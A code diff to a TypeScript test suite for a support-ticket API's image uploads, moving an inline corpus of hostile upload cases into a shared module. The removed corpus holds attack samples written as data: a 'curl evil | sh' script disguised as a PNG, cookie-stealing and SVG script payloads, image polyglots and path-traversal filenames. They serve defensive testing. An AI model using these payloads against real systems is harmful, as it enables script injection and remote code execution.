@@ -1,17 +1,13 @@
 import { existsSync, readdirSync } from 'node:fs';
 import path from 'node:path';
-import {
-  SupportText,
-  TICKET_IMAGE_MAX_BYTES,
-  TICKET_IMAGE_NAME,
-  type TicketDetail,
-} from '@rackdesk/contract';
+import { SupportText, TICKET_IMAGE_NAME, type TicketDetail } from '@rackdesk/contract';
 import type { LightMyRequestResponse } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { seedCatalog } from '../../src/seed/catalog.ts';
 import { allPermissions, bearer, createUser, loginToken, solveCaptcha } from '../support/fixtures.ts';
 import { sampleImages } from '../support/images.ts';
-import { type FormPart, multipartBody } from '../support/multipart.ts';
+import { type FormPart, imagePart, multipartBody } from '../support/multipart.ts';
+import { hostileUploadForm, hostileUploads } from '../support/corpora/uploads.ts';
 import { subAccountToken } from '../support/callers.ts';
 import { createTestApp, type TestApp } from '../support/test-app.ts';
 
@@ -37,13 +33,6 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 let ownerId: number;
-
-const image = (bytes: Uint8Array, filename = 'screenshot.png', contentType = 'image/png'): FormPart => ({
-  name: 'images[]',
-  filename,
-  contentType,
-  bytes,
-});
 
 async function openTicket(token: string, parts: FormPart[]) {
   const body = multipartBody([
@@ -122,7 +111,7 @@ describe('images uploaded with a ticket and its replies', () => {
     ];
     const opened = await openTicket(
       owner,
-      uploads.map((u, i) => image(u.bytes, `picture-${i}.${u.ext}`, u.type)),
+      uploads.map((u, i) => imagePart(u.bytes, `picture-${i}.${u.ext}`, u.type)),
     );
     expect(opened.statusCode).toBe(200);
     const { tid } = opened.json();
@@ -143,12 +132,15 @@ describe('images uploaded with a ticket and its replies', () => {
     for (const count of [1, 5]) {
       const response = await replyTo(tid, [
         { name: 'message', value: `${count} screenshots` },
-        ...Array.from({ length: count }, () => image(sampleImages.png)),
+        ...Array.from({ length: count }, () => imagePart(sampleImages.png)),
       ]);
       expect(response.statusCode).toBe(200);
       expect(response.json()).toEqual({ result: 'success', message: SupportText.replied });
     }
-    const empty = await replyTo(tid, [{ name: 'message', value: 'No picture' }, image(Buffer.alloc(0), '')]);
+    const empty = await replyTo(tid, [
+      { name: 'message', value: 'No picture' },
+      imagePart(Buffer.alloc(0), ''),
+    ]);
     expect(empty.statusCode).toBe(200);
     const replies = (await thread(tid)).replies.reply;
     expect(replies.map((r) => (r.attachment ? r.attachment.split('|').length : 0))).toEqual([0, 1, 5, 0]);
@@ -163,226 +155,6 @@ describe('images uploaded with a ticket and its replies', () => {
   });
 });
 
-/** A real image with something appended: still that image, served as one. */
-const withTail = (bytes: Buffer, tail: string | Buffer) => Buffer.concat([bytes, Buffer.from(tail)]);
-const html = (text: string) => Buffer.from(text);
-const big = (size: number) => withTail(sampleImages.png, Buffer.alloc(size - sampleImages.png.length));
-
-type Outcome = { refused: number; message?: string } | { inert: string };
-const notAnImage = { refused: 422, message: SupportText.notAnImage };
-
-/** What each hostile upload must come to: refused with nothing stored, or stored inert. */
-const hostileCorpus: [string, FormPart[], Outcome][] = [
-  ['a shell script renamed .png', [image(html('#!/bin/sh\ncurl evil | sh\n'), 'run.png')], notAnImage],
-  ['a JavaScript file renamed .png', [image(html('alert(document.cookie)'), 'x.png')], notAnImage],
-  [
-    'an SVG with a script',
-    [
-      image(
-        html('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
-        'a.svg',
-        'image/svg+xml',
-      ),
-    ],
-    notAnImage,
-  ],
-  [
-    'an SVG named .png and claimed image/png',
-    [image(html('<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>'), 'a.png')],
-    notAnImage,
-  ],
-  [
-    'an SVG with an XML prolog',
-    [image(html('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'a.svg')],
-    notAnImage,
-  ],
-  [
-    'an HTML page',
-    [image(html('<!doctype html><script>alert(1)</script>'), 'page.html', 'text/html')],
-    notAnImage,
-  ],
-  [
-    'an HTML page claimed as image/gif',
-    [image(html('<html><body onload=alert(1)>'), 'a.gif', 'image/gif')],
-    notAnImage,
-  ],
-  [
-    'HTML behind a GIF-like prefix',
-    [image(html('GIF89a<script>alert(1)</script>'), 'a.gif', 'image/gif')],
-    notAnImage,
-  ],
-  [
-    'HTML behind a PNG signature',
-    [image(withTail(sampleImages.png.subarray(0, 8), '<script>alert(1)</script>'), 'a.png')],
-    notAnImage,
-  ],
-  [
-    'an XHTML document',
-    [image(html('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'), 'x.xhtml')],
-    notAnImage,
-  ],
-  [
-    'a PDF',
-    [
-      image(
-        html('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF'),
-        'doc.pdf',
-        'application/pdf',
-      ),
-    ],
-    notAnImage,
-  ],
-  ['a PDF named .jpg', [image(html('%PDF-1.7\n%%EOF'), 'photo.jpg', 'image/jpeg')], notAnImage],
-  [
-    'a ZIP archive',
-    [
-      image(
-        Buffer.from('504b0304140000000800000000000000000000000000000000000000', 'hex'),
-        'a.zip',
-        'application/zip',
-      ),
-    ],
-    notAnImage,
-  ],
-  [
-    'a JAR named .png',
-    [image(Buffer.from('504b03040a0000000000000000000000000000000000000000000000', 'hex'), 'applet.png')],
-    notAnImage,
-  ],
-  [
-    'a Windows executable',
-    [
-      image(
-        Buffer.concat([html('MZ'), Buffer.alloc(58), Buffer.from('40000000', 'hex'), Buffer.alloc(4)]),
-        'setup.exe',
-        'application/x-msdownload',
-      ),
-    ],
-    notAnImage,
-  ],
-  [
-    'an ELF binary named .gif',
-    [image(Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(57)]), 'a.gif')],
-    notAnImage,
-  ],
-  [
-    'a Flash file',
-    [image(Buffer.concat([html('CWS'), Buffer.from([10, 0, 0, 0]), Buffer.alloc(20)]), 'a.swf')],
-    notAnImage,
-  ],
-  ['a BMP image', [image(Buffer.concat([html('BM'), Buffer.alloc(60)]), 'a.bmp', 'image/bmp')], notAnImage],
-  [
-    'a TIFF image',
-    [image(Buffer.concat([Buffer.from('4d4d002a', 'hex'), Buffer.alloc(60)]), 'a.tiff', 'image/tiff')],
-    notAnImage,
-  ],
-  [
-    'an ICO image',
-    [image(Buffer.concat([Buffer.from('0000010001001010', 'hex'), Buffer.alloc(60)]), 'favicon.ico')],
-    notAnImage,
-  ],
-  ['an empty file with a name', [image(Buffer.alloc(0), 'empty.png')], notAnImage],
-  ['a truncated PNG header', [image(sampleImages.png.subarray(0, 6), 'cut.png')], notAnImage],
-  ['a truncated GIF header', [image(sampleImages.gif.subarray(0, 5), 'cut.gif')], notAnImage],
-  ['a WebP cut short', [image(sampleImages.webp.subarray(0, 64), 'cut.webp')], notAnImage],
-  [
-    'a valid image and then an HTML file',
-    [image(sampleImages.png), image(html('<script>alert(1)</script>'), 'b.png')],
-    notAnImage,
-  ],
-  [
-    'an image of 5 MB and one byte',
-    [image(big(TICKET_IMAGE_MAX_BYTES + 1), 'huge.png')],
-    { refused: 413, message: SupportText.imageTooLarge },
-  ],
-  [
-    'an image of 6 MB after a good one',
-    [image(sampleImages.gif), image(big(6 * 1024 * 1024), 'huge.png')],
-    { refused: 413, message: SupportText.imageTooLarge },
-  ],
-  [
-    'six images',
-    Array.from({ length: 6 }, () => image(sampleImages.png)),
-    { refused: 422, message: SupportText.tooManyImages },
-  ],
-  [
-    'twelve images',
-    Array.from({ length: 12 }, () => image(sampleImages.gif)),
-    { refused: 422, message: SupportText.tooManyImages },
-  ],
-  [
-    'an image in the message field',
-    [{ name: 'message', filename: 'a.png', bytes: sampleImages.png }],
-    { refused: 422 },
-  ],
-  [
-    'an image in an unknown field',
-    [{ name: 'file', filename: 'a.png', bytes: sampleImages.png }],
-    { refused: 422 },
-  ],
-  ['a text in the image field', [{ name: 'images[]', value: 'not a file' }], notAnImage],
-  [
-    'a second message part',
-    [
-      { name: 'message', value: 'first' },
-      { name: 'message', value: 'second' },
-    ],
-    { refused: 422 },
-  ],
-  ['an unknown text field', [{ name: 'deptid', value: '2' }], { refused: 422 }],
-  ['a message with a NUL', [{ name: 'message', value: 'a\u0000b' }], { refused: 422 }],
-  ['a field name with a control character', [{ name: 'mess\u0007age2', value: 'x' }], { refused: 422 }],
-  ['a huge text field', [{ name: 'extra', value: 'x'.repeat(400_000) }], { refused: 422 }],
-  [
-    'forty text fields',
-    Array.from({ length: 40 }, (_, i) => ({ name: `f${i}`, value: 'x' })),
-    { refused: 413 },
-  ],
-  ['a __proto__ field', [{ name: '__proto__', value: 'x' }], { refused: 422 }],
-  // Real images under hostile names and claimed types: stored under a generated name, served as images.
-  [
-    'a real PNG named ../../etc/passwd.png',
-    [image(sampleImages.png, '../../etc/passwd.png')],
-    { inert: 'image/png' },
-  ],
-  ['a real PNG named with a NUL', [image(sampleImages.png, 'a\u0000.html')], { inert: 'image/png' }],
-  [
-    'a real JPEG named .html and claimed text/html',
-    [image(sampleImages.jpeg, 'index.html', 'text/html')],
-    { inert: 'image/jpeg' },
-  ],
-  [
-    'a real GIF named <script>.svg',
-    [image(sampleImages.gif, '<script>alert(1)</script>.svg', 'image/svg+xml')],
-    { inert: 'image/gif' },
-  ],
-  [
-    'a real WebP with a 300-character name',
-    [image(sampleImages.webp, `${'w'.repeat(300)}.webp`)],
-    { inert: 'image/webp' },
-  ],
-  [
-    'a real PNG named with a Windows path',
-    [image(sampleImages.png, 'C:\\Windows\\system32\\a.png')],
-    { inert: 'image/png' },
-  ],
-  [
-    'a GIF+ZIP polyglot (GIFAR)',
-    [image(withTail(sampleImages.gif, Buffer.from('504b030414000000080000000000', 'hex')), 'gifar.gif')],
-    { inert: 'image/gif' },
-  ],
-  [
-    'a PNG with HTML appended',
-    [image(withTail(sampleImages.png, '<html><script>alert(1)</script></html>'), 'p.png', 'text/html')],
-    { inert: 'image/png' },
-  ],
-  [
-    'a JPEG with a script in its tail',
-    [image(withTail(sampleImages.jpeg, '<script>alert(1)</script>'), 'j.jpg')],
-    { inert: 'image/jpeg' },
-  ],
-];
-
 describe('hostile uploads', () => {
   let tid: string;
   beforeAll(async () => {
@@ -390,16 +162,13 @@ describe('hostile uploads', () => {
   });
 
   it('has at least forty cases', () => {
-    expect(hostileCorpus.length).toBeGreaterThanOrEqual(40);
+    expect(hostileUploads.length).toBeGreaterThanOrEqual(40);
   });
 
-  it.each(hostileCorpus)('%s', async (_label, parts, outcome) => {
+  it.each(hostileUploads)('%s', async (_label, parts, outcome) => {
     const before = storedFiles();
     const repliesBefore = (await thread(tid)).replies.reply.length;
-    // A case that brings its own message part sends it alone; the others come with a message.
-    const hasMessage = parts.some((part) => part.name === 'message' && 'value' in part);
-    const form: FormPart[] = hasMessage ? parts : [{ name: 'message', value: 'Attached.' }, ...parts];
-    const response = await replyTo(tid, form);
+    const response = await replyTo(tid, hostileUploadForm(parts));
     const replies = (await thread(tid)).replies.reply;
     if ('refused' in outcome) {
       expect(response.statusCode).toBe(outcome.refused);
@@ -426,7 +195,7 @@ describe('hostile uploads', () => {
       payload: 'message=hello',
     });
     expect(noBoundary.statusCode).toBe(400);
-    const cut = multipartBody([{ name: 'message', value: 'x' }, image(sampleImages.png)]);
+    const cut = multipartBody([{ name: 'message', value: 'x' }, imagePart(sampleImages.png)]);
     const truncated = await t.app.inject({
       method: 'POST',
       url: `/api/support/${tid}`,
@@ -455,7 +224,7 @@ describe('who may read an image', () => {
   let name: string;
   let url: string;
   beforeAll(async () => {
-    const opened = await openTicket(owner, [image(sampleImages.png)]);
+    const opened = await openTicket(owner, [imagePart(sampleImages.png)]);
     tid = opened.json().tid;
     const [first] = (await thread(tid)).replies.reply;
     replyid = first!.replyid;
@@ -502,7 +271,7 @@ describe('who may read an image', () => {
   });
 
   it('not under a wrong name, another reply, another ticket, or a name that is no generated one', async () => {
-    const other = await openTicket(owner, [image(sampleImages.gif)]);
+    const other = await openTicket(owner, [imagePart(sampleImages.gif)]);
     const otherTid = other.json().tid;
     const [otherFirst] = (await thread(otherTid)).replies.reply;
     await replyTo(tid, [{ name: 'message', value: 'no image' }]);
@@ -556,7 +325,10 @@ describe('guests', () => {
     expect(opened.statusCode).toBe(200);
     const { tid, c } = opened.json();
     const before = storedFiles();
-    const body = multipartBody([{ name: 'message', value: 'Here is a picture' }, image(sampleImages.png)]);
+    const body = multipartBody([
+      { name: 'message', value: 'Here is a picture' },
+      imagePart(sampleImages.png),
+    ]);
     const response = await t.app.inject({
       method: 'POST',
       url: `/api/guest/support/${tid}?c=${c}`,
@@ -565,7 +337,7 @@ describe('guests', () => {
     expect(response.statusCode).toBe(422);
     expect(response.json().message).toBe(SupportText.guestsCannotAttach);
     expect(storedFiles()).toEqual(before);
-    const empty = multipartBody([{ name: 'message', value: 'No picture' }, image(Buffer.alloc(0), '')]);
+    const empty = multipartBody([{ name: 'message', value: 'No picture' }, imagePart(Buffer.alloc(0), '')]);
     const plain = await t.app.inject({ method: 'POST', url: `/api/guest/support/${tid}?c=${c}`, ...empty });
     expect(plain.statusCode).toBe(200);
   });
